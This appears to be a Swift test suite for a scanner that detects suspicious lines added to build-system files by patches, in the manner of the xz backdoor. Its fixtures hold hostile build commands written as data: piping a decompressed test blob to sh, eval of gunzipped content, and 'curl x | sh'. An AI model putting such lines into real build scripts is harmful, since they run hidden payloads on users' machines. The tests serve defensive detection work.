import Testing

@testable import TollgateDrift

/// What a patch adds to the build: the lines its hunks add to build-system files, at the patch's own line numbers.
@Suite struct PatchBuildLinesTests {
    @Test func onlyLinesAddedToBuildFilesAreKeptInPlace() throws {
        let patch = """
            Description: build tweaks
            --- a/configure.ac
            +++ b/configure.ac
            @@ -1,2 +1,4 @@
             AC_INIT([x], [1])
            +++ counted as an added line, not a header
            +xz -dc "$srcdir/tests/files/blob.xz" | sh
             AC_OUTPUT
            --- a/src/main.c
            +++ b/src/main.c
            @@ -1 +1,2 @@
             int main(void) { return 0; }
            +const char *help = "run: curl x | sh";
            --- pkg-1.0.orig/m4/extra.m4\t2024-01-01 00:00:00
            +++ pkg-1.0/m4/extra.m4\t2024-01-01 00:00:00
            @@ -0,0 +1 @@
            +AC_DEFUN([X], [eval "$(gunzip -c f)"])
            """
        let added = try #require(PatchBuildLines.extract(Array(patch.utf8)))
        let lines = String(decoding: added, as: UTF8.self).split(separator: "\n", omittingEmptySubsequences: false)
        #expect(lines.count == patch.split(separator: "\n", omittingEmptySubsequences: false).count)
        #expect(lines[5] == "++ counted as an added line, not a header")
        #expect(lines[6] == #"xz -dc "$srcdir/tests/files/blob.xz" | sh"#)
        #expect(lines[12] == "", "a C file's line is not build code")
        #expect(lines[16] == #"AC_DEFUN([X], [eval "$(gunzip -c f)"])"#)
        #expect(lines.enumerated().allSatisfy { [5, 6, 16].contains($0.offset) || $0.element.isEmpty })
        let hits = BuildScriptScanner.scan(added).hits
        #expect(hits.map(\.line) == [7, 17] && hits.allSatisfy { $0.kind == "decompress-to-shell" }, "\(hits)")
    }

    @Test func aPatchThatAddsNothingToTheBuildIsNone() {
        let patch = "--- a/README\n+++ b/README\n@@ -1 +1 @@\n-old\n+new | sh\n"
        #expect(PatchBuildLines.extract(Array(patch.utf8)) == nil)
        #expect(PatchBuildLines.extract([]) == nil)
    }

    @Test func theSeriesListsThePatchesApplied() {
        let series = "# comment\nfirst.patch\n\nsub/second.patch -p1\n../escape.patch\n  third.diff\n"
        #expect(
            QuiltSeries.patches(Array(series.utf8)).map(\.name) == ["first.patch", "sub/second.patch", "third.diff"])
        #expect(QuiltSeries.patches(Array("a.patch -p0\nb.patch\n".utf8)).map(\.strip) == [0, 1])
        // With -p0 the paths are the tree's own: `debian/rules` is not `rules`.
        let p0 = "--- debian/rules\n+++ debian/rules\n@@ -1 +1,2 @@\n x\n+curl x | sh\n"
        #expect(PatchBuildLines.extract(Array(p0.utf8), strip: 0) != nil)
        #expect(PatchBuildLines.extract(Array(p0.utf8), strip: 1) == nil, "`rules` alone is no build file")
        // patch applies a hunk to the old name when the new one does not exist: either name makes it a build file's.
        let renamed = "--- a/configure.ac\n+++ b/nonexistent/notes.txt\n@@ -1 +1,2 @@\n x\n+curl x | sh\n"
        #expect(PatchBuildLines.extract(Array(renamed.utf8)) != nil)
        #expect(QuiltSeries.patches(Array("./evil.patch\n".utf8)).map(\.name) == ["evil.patch"])
    }
}
